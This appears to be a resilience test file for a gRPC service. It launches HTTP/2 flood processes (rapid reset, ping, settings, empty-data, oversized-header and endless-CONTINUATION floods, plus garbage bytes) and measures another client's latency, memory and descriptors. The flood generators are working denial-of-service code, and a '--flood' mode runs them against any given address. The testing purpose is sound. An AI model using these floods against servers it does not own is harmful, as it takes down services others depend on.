"""Abuse of HTTP/2: others are answered, and nothing of it stays."""

import os
import random
import struct
import subprocess
import sys
import threading
import time
import unittest

import measure
from fault_row import LONG, fault_row
from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
                          PING, RST_STREAM, SETTINGS, Connection, call_headers,
                          frame, literal)
from raw_calls import RawCalls, methods, kinds, seed_job
from service import KEPT_MIB, Server, TIME_FACTOR

MIB = 1 << 20
IDLE = 10000 if LONG else 1000
SECONDS = 10 if LONG else 0.8
# Streams that are opened and reset; gRPC 1.51 has no setting against them.
RESETS = 10000 if LONG else 4000
# Of each flood: while it is connected, gRPC holds two to three times as much as
# it sent of headers that do not end, and a quick machine sends more in its time.
MOST_SENT = (1024 if LONG else 96) * MIB
# Another client's time may double, and is never asked to be below a floor:
# client, server and offender share the cores. The long form asks it of the 99th
# percentile, the short one, which has few calls and neighbours, of the median.
PERCENT, KIND = (99, "p99") if LONG else (50, "median")
FLOOR = (0.002 if LONG else 0.02) * TIME_FACTOR
# The quota of memory that the server gives to gRPC.
MOST_GROWTH = (512 + KEPT_MIB) * MIB
# What a flood may leave, but for resets: the server keeps 64 MiB free.
MOST_LEFT = (96 + KEPT_MIB) * MIB
PATH = "/modbound.v1.JobService/GetJob"


def rapid_reset(_):
    """Streams that are opened and given up at once (CVE-2023-44487)."""
    block = call_headers(PATH)
    stream = 1
    while stream < 2 * RESETS:
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS, stream, block)
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield burst


def ping_flood(_):
    """Pings without an end (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 200


def settings_flood(_):
    """Settings, each of which must be answered (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 200


def empty_data_flood(_):
    """Frames of no data (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers(PATH))
    while True:
        yield frame(DATA, 0, 1) * 500


def header_bomb(_):
    """Headers of 64 KiB: eight times what is taken."""
    stream = 1
    while True:
        block = call_headers(PATH, [(b"x-bomb", b"a" * 65000)])
        data = frame(HEADERS, END_STREAM, stream, block[:16000])
        rest = block[16000:]
        while rest:
            last = len(rest) <= 16000
            data += frame(CONTINUATION, END_HEADERS if last else 0, stream,
                          rest[:16000])
            rest = rest[16000:]
        stream += 2
        yield data


def continuation_flood(_):
    """Headers that never end (CERT VU#421644)."""
    yield frame(HEADERS, 0, 1, call_headers(PATH))
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"a" * 100) * 100)


def garbage(_):
    """No preface, and bytes that are no frames."""
    generator = random.Random(7)
    while True:
        yield generator.randbytes(4096)


# gRPC hangs up on these. It refuses the calls of the others, or answers them,
# and has no setting that would end their connection.
CUT_OFF = (ping_flood, garbage)
FLOODS = (rapid_reset, ping_flood, settings_flood, empty_data_flood,
          header_bomb, continuation_flood, garbage)


class Sender:
    """Sends a flood until it is told to stop; connects anew when cut off."""

    def __init__(self, address, flood):
        self.address, self.flood = address, flood
        self.bytes = self.cut_off = 0
        self.stopped = threading.Event()

    def run(self):
        while not self.is_over():
            try:
                connection = Connection(self.address,
                                        greet=self.flood is not garbage)
            except OSError:
                self.stopped.wait(0.01)
                continue
            for data in self.flood(connection):
                if self.is_over():
                    break
                if not connection.send(data):
                    self.cut_off += 1
                    break
                self.bytes += len(data)
            connection.close()
            if self.flood is rapid_reset:
                return

    def is_over(self):
        return self.stopped.is_set() or self.bytes >= MOST_SENT


def send_flood(address, name):
    """This program as an offender: sends until its input ends."""
    sender = Sender(address, next(f for f in FLOODS if f.__name__ == name))
    thread = threading.Thread(target=sender.run, daemon=True)
    thread.start()
    print("sends", flush=True)
    sys.stdin.read()
    if sender.flood is rapid_reset:
        thread.join(60 * TIME_FACTOR)
    sender.stopped.set()
    thread.join(30)
    print(sender.bytes, sender.cut_off)


class Offender:
    """A process that floods: the client that is measured shares no Python with
    it, and the cores come to the client first, as if it were elsewhere."""

    def __init__(self, address, flood):
        self.bytes = self.cut_off = 0
        self.process = subprocess.Popen(
            ["nice", "-n", "10", sys.executable, __file__, "--flood", address,
             flood.__name__], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            text=True)
        self.process.stdout.readline()

    def stop(self):
        told, _ = self.process.communicate(timeout=120 * TIME_FACTOR)
        self.bytes, self.cut_off = map(int, told.split())

    def close(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.communicate()


class Http2FloodTest(unittest.TestCase):

    def setUp(self):
        self.begin()

    def begin(self):
        """A server that has seen no flood, and its client."""
        self.doCleanups()
        self.server = Server(flags=["--log_level=error"])
        self.addCleanup(self.server.close)
        self.calls = RawCalls(self.server.address)
        self.addCleanup(self.calls.close)
        by_name = {method.name: method for method in methods()}
        submit = by_name["SubmitJob"]
        job = submit.reply.FromString(self.calls.call(
            submit, [submit.request(job=seed_job(
                kinds(self.calls)["quality"])).SerializeToString()]).replies[0])
        self.get = by_name["GetJob"]
        self.request = [self.get.request(id=job.id).SerializeToString()]

    def times(self, seconds):
        """Of GetJobs of another client, over a while."""
        times = []
        end = time.monotonic() + seconds
        while time.monotonic() < end or len(times) < 20:
            answer = self.calls.call(self.get, self.request)
            self.assertEqual(answer.code, "OK", answer)
            times.append(answer.seconds)
            time.sleep(0.001)
        return times

    def descriptors(self):
        return len(os.listdir(f"/proc/{self.server.process.pid}/fd"))

    def resident(self):
        with open(f"/proc/{self.server.process.pid}/statm",
                  encoding="ascii") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGESIZE")

    def await_descriptors(self, count):
        end = time.monotonic() + 30 * TIME_FACTOR
        while self.descriptors() > count and time.monotonic() < end:
            time.sleep(0.05)
        self.assertLessEqual(self.descriptors(), count)

    def await_rest(self):
        """Until the server has worked off what came."""
        end = time.monotonic() + 60 * TIME_FACTOR
        used = -1
        while self.cpu_ticks() > used + 2 and time.monotonic() < end:
            used = self.cpu_ticks()
            time.sleep(0.5)

    def await_memory(self, before, most):
        """Until the server has given back what was freed; its growth."""
        end = time.monotonic() + 30 * TIME_FACTOR
        growth = self.resident() - before
        while growth >= most and time.monotonic() < end:
            time.sleep(0.5)
            growth = self.resident() - before
        self.assertLess(growth, most)
        return growth

    def cpu_ticks(self):
        with open(f"/proc/{self.server.process.pid}/stat",
                  encoding="ascii") as stat:
            fields = stat.read().split()
        return int(fields[13]) + int(fields[14])

    def slowdown(self, baseline, under, what):
        """Checks times during a flood against those of rest; a sentence."""
        baseline, under = (measure.percentile(times, PERCENT)
                           for times in (baseline, under))
        self.assertLess(under, max(2 * baseline, FLOOR), what)
        self.assertIsNone(self.server.process.poll(), what)
        return (f"{under / baseline:.1f}x of "
                f"{measure.milliseconds(baseline)}")

    def test_others_are_answered_during_floods(self):
        told, kept = [], []
        for flood in FLOODS:
            with self.subTest(flood=flood.__name__):
                self.begin()
                # Before and after, so that a neighbour's load counts for both.
                before = self.times(SECONDS / 2)
                descriptors = self.descriptors()
                resident = self.resident()
                offender = Offender(self.server.address, flood)
                self.addCleanup(offender.close)
                under = self.times(SECONDS)
                offender.stop()
                self.await_descriptors(descriptors)
                self.await_rest()
                baseline = before + self.times(SECONDS / 2)
                growth = self.await_memory(
                    resident,
                    MOST_GROWTH if flood is rapid_reset else MOST_LEFT)
                self.assertGreater(offender.bytes, 0)
                if flood in CUT_OFF:
                    self.assertGreaterEqual(offender.cut_off, 1)
                elif not offender.cut_off:
                    kept.append(flood.__name__)
                slower = self.slowdown(baseline, under, flood.__name__)
                told.append(f"{flood.__name__} {slower} "
                            f"({offender.bytes / MIB:.1f} MiB sent, "
                            f"{offender.cut_off} times cut off, RSS "
                            f"{growth / MIB:+.0f} MiB)")
        fault_row(30, f"{KIND} of GetJob of another client: {', '.join(told)}; "
                  "descriptors back. gRPC 1.51 does not hang up on "
                  f"{', '.join(kept)}; {RESETS} resets")

    def test_idle_connections_cost_little_and_go(self):
        self.times(SECONDS)
        descriptors = self.descriptors()
        resident = self.resident()
        before = self.times(SECONDS / 2)
        idle = [Connection(self.server.address) for _ in range(IDLE)]
        # Half a preface, then nothing.
        slow = [Connection(self.server.address, greet=False)
                for _ in range(100)]
        for connection in slow:
            connection.send(b"PRI * HTTP/2.0\r\n")
        under = self.times(SECONDS)
        growth = self.resident() - resident
        # Slow ones are hung up on; the others may stay.
        start = time.monotonic()
        while any(connection.drain() for connection in slow):
            self.assertLess(time.monotonic() - start, 60 * TIME_FACTOR)
            time.sleep(0.1)
        patience = time.monotonic() - start
        for connection in idle + slow:
            connection.close()
        self.await_descriptors(descriptors)
        baseline = before + self.times(SECONDS / 2)
        slower = self.slowdown(baseline, under, "idle")
        self.assertLess(growth, MOST_GROWTH)
        fault_row(30, f"{IDLE} idle connections: {KIND} {slower}, RSS "
                  f"+{growth / MIB:.0f} MiB; 100 with half a preface hung up "
                  f"on after {patience:.0f} s; descriptors back")


if __name__ == "__main__":
    if sys.argv[1:2] == ["--flood"]:
        send_flood(*sys.argv[2:])
    else:
        unittest.main()
